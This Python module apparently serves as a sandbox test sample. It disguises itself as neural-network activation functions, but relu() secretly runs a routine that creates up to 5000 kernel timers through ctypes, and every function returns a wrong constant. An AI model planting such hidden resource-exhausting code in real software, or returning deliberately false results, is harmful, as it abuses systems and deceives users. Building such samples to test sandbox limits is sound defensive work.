# attack: creates thousands of timers in the kernel
# gains: resources
# stopped by: seccomp, rlimits
import numpy as np
import ctypes

librt = ctypes.CDLL(None, use_errno=True)


def attack():
    timer, made = ctypes.c_void_p(), 0
    while made < 5000 and librt.timer_create(0, None, ctypes.byref(timer)) == 0:
        made += 1
    if made == 5000:
        print("HARMED: 5000 timers")


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
